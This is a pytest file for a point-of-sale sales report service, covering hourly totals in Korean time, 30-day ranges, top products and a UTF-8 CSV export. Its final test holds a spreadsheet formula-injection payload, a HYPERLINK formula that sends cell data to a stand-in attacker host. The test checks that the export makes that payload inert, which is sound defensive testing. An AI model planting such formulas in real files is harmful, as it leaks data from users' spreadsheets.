"""The sales view's queries (by hour in KST, 30 days, top products) and the CSV export."""

from __future__ import annotations

import csv
import sqlite3
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from day_sales import answer, record_sale, void
from helpers import fixed_clock

from pos_app.domain.errors import UserFacingError
from pos_app.services.sales_report import CSV_HEADER, SalesReportService

NOW = datetime(2026, 11, 25, 9, 0, tzinfo=UTC)  # 18:00 KST on 2026-11-25


@pytest.fixture
def report(db: sqlite3.Connection) -> SalesReportService:
    return SalesReportService(db, fixed_clock(NOW))


@pytest.fixture
def sales(db: sqlite3.Connection) -> dict[str, str]:
    ids = {
        # 23:30 UTC on the 24th is 08:30 KST on the 25th.
        "early": record_sale(
            db, datetime(2026, 11, 24, 23, 30, tzinfo=UTC), "cash", [("p1", "사과", 2_000, 3)]
        ),
        "noon": record_sale(
            db,
            datetime(2026, 11, 25, 3, 10, tzinfo=UTC),
            "cheongju_pay",
            [("p1", "사과", 2_000, 1), ("p2", "막걸리", 1_800, 5)],
            discount=1_100,
        ),
        "noon2": record_sale(
            db, datetime(2026, 11, 25, 3, 50, tzinfo=UTC), "card_terminal", [("p3", "떡", 9_000, 1)]
        ),
        "voided": record_sale(
            db, datetime(2026, 11, 25, 4, 0, tzinfo=UTC), "cash", [("p3", "떡", 9_000, 9)]
        ),
        "declined": record_sale(
            db,
            datetime(2026, 11, 25, 5, 0, tzinfo=UTC),
            "cheongju_pay",
            [("p2", "막걸리", 1_800, 9)],
        ),
        # 14:59 UTC on the 25th is 23:59 KST the same day; 15:00 UTC is the next day.
        "late": record_sale(
            db, datetime(2026, 11, 25, 14, 59, tzinfo=UTC), "cash", [(None, "봉투", 100, 1)]
        ),
        "old": record_sale(
            db, datetime(2026, 10, 27, 2, 0, tzinfo=UTC), "cash", [("p1", "사과", 2_000, 10)]
        ),
        "too_old": record_sale(
            db, datetime(2026, 10, 26, 2, 0, tzinfo=UTC), "cash", [("p1", "사과", 2_000, 10)]
        ),
    }
    void(db, datetime(2026, 11, 25, 4, 1, tzinfo=UTC), ids["voided"])
    answer(db, ids["declined"], "declined", code="E301", message="잔액 부족")
    answer(db, ids["noon"], "accepted", approval_no="A-77", cashback=1_000)
    return ids


@pytest.mark.usefixtures("sales")
def test_today_by_hour_in_korean_time(report: SalesReportService) -> None:
    hours = report.by_hour(report.today())
    assert len(hours) == 24 and report.today() == date(2026, 11, 25)
    totals = {b.key: (b.count, b.total) for b in hours if b.count}
    assert totals == {"08": (1, 6_000), "12": (2, 11_000 - 1_100 + 9_000), "23": (1, 100)}


@pytest.mark.usefixtures("sales")
def test_the_last_30_days_include_quiet_days(report: SalesReportService) -> None:
    span = report.last_30_days()
    assert (span.first, span.last) == (date(2026, 10, 27), date(2026, 11, 25))
    days = report.by_day(span)
    assert len(days) == 30 and days[0].key == "2026-10-27" and days[-1].key == "2026-11-25"
    assert days[0].total == 20_000  # the day 30 days back is in; the 31st is not
    assert days[1].total == 0
    assert days[-1].count == 4 and days[-1].total == 6_000 + 9_900 + 9_000 + 100


@pytest.mark.usefixtures("sales")
def test_top_products_leave_out_voided_and_declined_sales(report: SalesReportService) -> None:
    top = report.top_products(report.check_range(date(2026, 11, 25), date(2026, 11, 25)))
    # By amount; a tie (9,000 each) goes to the larger quantity.
    assert [(p.name, p.quantity, p.amount) for p in top] == [
        ("막걸리", 5, 9_000),
        ("떡", 1, 9_000),
        ("사과", 4, 8_000),
        ("봉투", 1, 100),
    ]


def test_a_bad_range_is_refused(report: SalesReportService) -> None:
    with pytest.raises(UserFacingError) as refused:
        report.check_range(date(2026, 11, 25), date(2026, 11, 24))
    assert refused.value.code == "E861"
    with pytest.raises(UserFacingError):
        report.check_range(date(2025, 1, 1), date(2026, 11, 24))


@pytest.mark.usefixtures("sales")
def test_csv_export_is_utf8_with_bom_and_hides_nothing(
    report: SalesReportService, tmp_path: Path
) -> None:
    path = tmp_path / "매출.csv"
    written = report.export_csv(path, report.check_range(date(2026, 11, 25), date(2026, 11, 25)))
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the BOM
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert tuple(rows[0]) == CSV_HEADER
    # Six payments (voided and declined included, marked), then the void as its own row.
    assert written == len(rows) - 1 == 7
    by_receipt = {r[0]: r for r in rows[1:] if r[10] == "결제"}
    noon = by_receipt["20261125-0002"]
    assert noon[2] == "2026-11-25 12:10:00" and noon[3] == "청주페이"
    assert noon[4:7] == ["11000", "1100", "9900"] and noon[7] == "승인" and noon[9] == "A-77"
    assert noon[10:13] == ["결제", "9900", "1000"]  # its net sales and confirmed cashback
    # Its VAT split (all taxable: 9,900 with 900 VAT): 과세매출 + 면세매출 = 순매출.
    assert noon[13:] == ["9900", "900", "0"]
    assert by_receipt["20261125-0004"][8] == "취소"
    assert by_receipt["20261125-0005"][7] == "거절" and by_receipt["20261125-0005"][11] == "0"
    (voided,) = [r for r in rows[1:] if r[10] == "결제취소"]
    assert voided[0] == "20261125-0004" and voided[6] == voided[11] == "-81000"
    # The net column adds up to the day's net sales, as the charts show it.
    assert (
        sum(int(r[11]) for r in rows[1:])
        == report.by_day(report.check_range(date(2026, 11, 25), date(2026, 11, 25)))[0].total
        == 6_000 + 9_900 + 9_000 + 100
    )
    # The split columns add up to the range's split, as the close and the screen show it.
    figures = report.figures(report.check_range(date(2026, 11, 25), date(2026, 11, 25)))
    sums = [sum(int(r[i]) for r in rows[1:]) for i in (13, 14, 15)]
    assert sums == [figures.taxable, figures.vat, figures.exempt]
    assert figures.taxable + figures.exempt == figures.net_sales


def test_an_export_to_a_place_that_cannot_be_written_is_a_coded_error(
    report: SalesReportService, tmp_path: Path
) -> None:
    with pytest.raises(UserFacingError) as refused:
        report.export_csv(tmp_path / "no" / "such" / "dir.csv", report.last_30_days())
    assert refused.value.code == "E862"


def test_a_hostile_approval_number_comes_out_inert_and_numbers_stay_numbers(
    db: sqlite3.Connection, report: SalesReportService, tmp_path: Path
) -> None:
    # Stored before the sync client checked approval numbers (or typed for a refund).
    sale = record_sale(
        db, datetime(2026, 11, 25, 3, 0, tzinfo=UTC), "cheongju_pay", [("p1", "사과", 1_000, 2)]
    )
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"OK")'
    answer(db, sale, "accepted", approval_no=hostile, cashback=0)
    void(db, datetime(2026, 11, 25, 3, 5, tzinfo=UTC), sale)
    path = tmp_path / "sales.csv"
    report.export_csv(path, report.check_range(date(2026, 11, 25), date(2026, 11, 25)))
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))[1:]
    assert {row[9] for row in rows} == {"'" + hostile}
    (voided,) = [r for r in rows if r[10] == "결제취소"]
    assert voided[6] == voided[11] == "-2000"  # a number a spreadsheet sums, not text
